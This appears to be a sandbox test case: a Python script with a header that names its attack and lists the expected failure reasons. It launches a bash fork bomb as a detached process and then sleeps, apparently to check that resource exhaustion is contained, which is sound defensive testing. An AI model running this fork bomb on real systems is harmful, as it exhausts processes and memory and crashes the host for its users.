# ---
# attack: The shell's well-known function calls itself twice, in the background.
# fails: {stem: everything}
# reason: processes|memory|time|died|ended
# ---

# %% grade_id="stem"
import subprocess
import time

subprocess.Popen(["bash", "-c", "bomb() { bomb | bomb & }; bomb"], start_new_session=True)
time.sleep(1000)
